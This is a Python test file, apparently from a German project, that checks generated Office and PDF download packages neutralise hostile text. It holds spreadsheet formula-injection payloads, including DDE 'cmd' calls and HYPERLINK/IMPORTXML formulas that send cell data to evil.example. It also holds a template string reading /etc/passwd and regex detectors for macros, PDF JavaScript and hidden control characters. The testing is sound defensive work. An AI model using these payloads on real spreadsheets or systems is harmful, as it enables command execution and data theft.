"""What hostile texts become in the files of a transfer package when no check has stopped them."""

from __future__ import annotations

import re
from dataclasses import replace
from io import BytesIO
from zipfile import ZipFile

import pytest
from docx import Document
from hostile_site import poisoned
from openpyxl import load_workbook
from page import ValidationProfile, validate_pdf_bytes
from payloads import LONG, PAYLOADS, POLYGLOT
from pptx import Presentation

from praxistransfer.downloads.excel import make_xlsx
from praxistransfer.downloads.files import make_files
from praxistransfer.downloads.package import Package, write_package
from praxistransfer.library.knowledge import Knowledge
from praxistransfer.library.library import Library
from praxistransfer.model.practice import Practice
from praxistransfer.pages.page_parts import Book

FORMULAS = {
    "formula": '=cmd|"/c calc"!A1',
    "plus": "+1+1 und mehr",
    "minus": "-2+3+cmd|' /C calc'!D2",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://evil.example/?"&A1, "Bitte hier")',
    "array": '{=IMPORTXML("https://evil.example/", "//a")}',
    "tab": "\t=1+1 und mehr",
}
CODE = (
    '#panic("boese") #read("/etc/passwd") $x$ `#eval` <quelle-1> @quelle-1 *b* '
    '"},{"type":"Items","x":"\\u0000 \\" Ende '
    "]]>&boese;<w:t>Fett</w:t><?xml version='1.0'?> Text"
)
TEXTS = {
    "code": CODE,
    "other-letters": "Einfach 中文 und 😀 und مرحبا im Text",
    "signs": " ".join(item.text for item in PAYLOADS if item.kind == "signs"),
    "links": " ".join(item.text for item in PAYLOADS if item.kind == "link"),
    "long-word": "x" * LONG,
    "polyglot": POLYGLOT,
}
SUMS = ["=SUM(B4:B11)", "=SUM(C4:C11)"]
MODEL = "musterstadt-tandemgarten"


def poisoned_package(library: Library, text: str) -> Package:
    """Return the package of a practice in which every text is the hostile one."""
    entries = {id_: poisoned(entry, text) for id_, entry in library.entries.items()}
    hostile = replace(
        library,
        entries=entries,
        handbuch=poisoned(library.handbuch, text),
        werke={id_: poisoned(work, text) for id_, work in library.werke.items()},
    )
    practice = entries[MODEL]
    assert isinstance(practice, Practice)
    return write_package(Book(Knowledge(hostile)), practice, "https://handbuch.example/")


OUTSIDE = re.compile(r'<Relationship [^>]*TargetMode="External"[^>]*>')
HIDING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\u202a-\u202e\u2066-\u2069]")


def office_parts(files: dict[str, bytes]) -> dict[str, str]:
    """Return the parts of all Office files."""
    found = {}
    for name in ("vorlage-rat.docx", "checkliste.docx", "folien.pptx", "plan-und-kosten.xlsx"):
        with ZipFile(BytesIO(files[name])) as office:
            for part in office.namelist():
                found[f"{name}/{part}"] = office.read(part).decode("utf-8", "replace")
    return found


def formulas_of(workbook: bytes) -> list[str]:
    """Return what a spreadsheet would compute."""
    cells = (cell for sheet in load_workbook(BytesIO(workbook)) for row in sheet for cell in row)
    return [cell.value for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
def test_what_looks_like_a_formula_stays_text(text: str, beispielland: Library) -> None:
    workbook = make_xlsx(poisoned_package(beispielland, text))
    assert formulas_of(workbook) == SUMS
    cells = [cell for sheet in load_workbook(BytesIO(workbook)) for row in sheet for cell in row]
    hostile = [cell for cell in cells if str(cell.value).strip().startswith(text.strip())]
    assert hostile
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)


@pytest.fixture(scope="module", params=TEXTS, ids=str)
def files(request: pytest.FixtureRequest, beispielland: Library) -> dict[str, bytes]:
    return make_files(poisoned_package(beispielland, TEXTS[request.param])).contents


def test_files_can_be_opened(files: dict[str, bytes]) -> None:
    assert formulas_of(files["plan-und-kosten.xlsx"]) == SUMS
    assert len(Document(BytesIO(files["vorlage-rat.docx"])).paragraphs) > 20
    assert len(Document(BytesIO(files["checkliste.docx"])).tables) > 3
    assert len(Presentation(BytesIO(files["folien.pptx"])).slides) == 8
    report = validate_pdf_bytes(files["steckbrief.pdf"], profile=ValidationProfile.PDF_UA_1)
    assert [failure.message for failure in report.failures] == []


def test_files_lead_nowhere_but_to_web_pages(files: dict[str, bytes]) -> None:
    parts = office_parts(files)
    links = [link for text in parts.values() for link in OUTSIDE.findall(text)]
    assert links
    assert [link for link in links if not re.search(r'Target="https?://', link)] == []


def test_files_run_nothing(files: dict[str, bytes]) -> None:
    assert not [part for part in office_parts(files) if re.search("vba|ole|activex", part.lower())]
    running = rb"/(?:JavaScript|JS|Launch|EmbeddedFile|OpenAction)\b"
    assert not re.search(running, files["steckbrief.pdf"])


def test_no_sign_turns_text_around_or_hides_it(files: dict[str, bytes]) -> None:
    texts = {**office_parts(files), "quellen.txt": files["quellen.txt"].decode("utf-8-sig")}
    assert not [part for part, text in texts.items() if HIDING.search(text)]
